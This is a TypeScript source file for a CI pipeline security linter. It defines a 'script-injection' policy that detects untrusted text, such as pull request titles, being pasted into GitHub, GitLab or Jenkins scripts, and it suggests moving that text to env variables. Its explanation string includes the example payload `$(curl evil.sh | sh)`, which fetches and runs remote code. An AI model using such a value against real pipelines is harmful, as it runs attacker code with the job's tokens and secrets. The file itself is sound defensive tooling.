import {
  CALLED_FILES,
  type Code,
  codeOf,
  definePolicy,
  type Expression,
  type Fix,
  type Job,
  jobsAsWritten,
  moveToEnv,
  type PipelineDocument,
  runsOf,
  type Step,
  type Taint,
  taintsOf,
  type Violation,
} from "#policy";
import { runByItself } from "./by-itself.ts";
import { handedOver } from "./calls.ts";
import { evaluatedByShell, expandedInput } from "./gitlab.ts";
import { injectedByGroovy, putInByBat } from "./groovy.ts";
import { putInByCmd } from "./textual.ts";
import { worstOf } from "./worst.ts";

export default definePolicy({
  id: "script-injection",
  stage: "pipeline",
  severity: "high",
  confidence: "high",
  title: "Text that others write becomes part of a pipeline's script",
  why: "The platform pastes the expression into the script before a shell reads it. A pull request titled `$(curl evil.sh | sh)` then runs with the job's token and secrets, and with whatever the runner can reach: models, data, registries.",
  fix: 'Hand the text over in the step\'s `env:` and read it as a quoted variable: `"$TITLE"`, in PowerShell `$env:TITLE`, in JavaScript `process.env.TITLE`. In cmd `%TITLE%` is pasted in just the same: use another shell, or `!TITLE!` after `setlocal EnableDelayedExpansion`.',
  references: ["CWE-78", "CWE-94", "AML.T0010", "https://docs.github.com/actions/concepts/security/script-injections"],
  since: "0.1.0",
  limits:
    "Names of branches and tags of the repository itself (`github.ref`, `github.ref_name`, `github.base_ref`) and login names are not reported: those who can set them can push. Outputs of steps are followed when a script assigns them plainly, and for actions known to hand on foreign text. Inputs of GitLab templates are text of the file that includes them; they count where a shell reads a variable in them once more, and where `expand_vars` writes it out. JavaScript and Python that take the text from the event or a variable by themselves are followed inside of one script, not through what an API answers.",
  reads: ["pipeline"],
  needs: CALLED_FILES,
  *check(document, { repository }) {
    for (const job of jobsAsWritten(document)) {
      for (const step of job.steps) {
        yield* handedOver(document, job, step, repository);
        yield* runByItself(document, job, step);
        yield* putInByCmd(document, job, step);
        yield* injectedByGroovy(document, job, step);
        yield* putInByBat(document, job, step);
        yield* evaluatedByShell(document, job, step, repository);
        yield* expandedInput(document, job, step);
      }
      yield* handedOver(document, job, undefined, repository);
    }
    for (const run of runsOf(document, repository)) {
      for (const job of run.jobs) {
        for (const step of job.steps) for (const code of codeOf(step)) yield* injected(run, job, step, code);
      }
    }
  },
});

interface Tainted {
  readonly expression: Expression;
  readonly taints: readonly Taint[];
}

/** One violation for each context that reaches the code, at its first place; the fix cures the whole step. */
function* injected(document: PipelineDocument, job: Job, step: Step, code: Code): Iterable<Violation> {
  const tainted = code.text.expressions.flatMap((expression): Tainted[] => {
    const all = expression.tree ? taintsOf(expression.tree, { document, job, step }) : [];
    // What a caller hands over is told where it does.
    const taints = all.filter(({ handed }) => !handed);
    return worstOf(taints, document, job, step) ? [{ expression, taints }] : [];
  });
  const fix = fixOf(document, job, step, code, tainted);
  const seen = new Set<string>();
  for (const { expression, taints } of tainted) {
    const worst = worstOf(taints, document, job, step);
    if (!worst || seen.has(expression.body)) continue;
    seen.add(expression.body);
    yield {
      location: code.text.source.locate(expression.from, expression.to),
      message: `\`${shown(expression.body)}\` becomes part of the ${code.label}${origin(expression.body, worst.taint)}; ${worst.who}`,
      severity: worst.severity,
      confidence: worst.confidence,
      anchor: `${job.id}/${step.label}`,
      ...(fix ? { fix } : {}),
    };
  }
}

function fixOf(
  document: PipelineDocument,
  job: Job,
  step: Step,
  code: Code,
  tainted: readonly Tainted[],
): Fix | undefined {
  const expressions = tainted.map(({ expression }) => expression);
  const moved = moveToEnv(document, job, step, code, expressions);
  return moved && { title: "read it from env", safety: moved.exact ? "safe" : "review", edits: moved.edits };
}

/** Where the text comes from, when the expression does not say it. */
function origin(body: string, taint: Taint): string {
  const path = body.toLowerCase().replace(/\[\s*'([^']*)'\s*\]/g, ".$1");
  return path.includes(taint.origin.toLowerCase()) ? "" : ` (from \`${taint.origin}\`)`;
}

function shown(body: string): string {
  const line = body.replace(/\s+/g, " ");
  return line.length > 60 ? `${line.slice(0, 57)}…` : line;
}
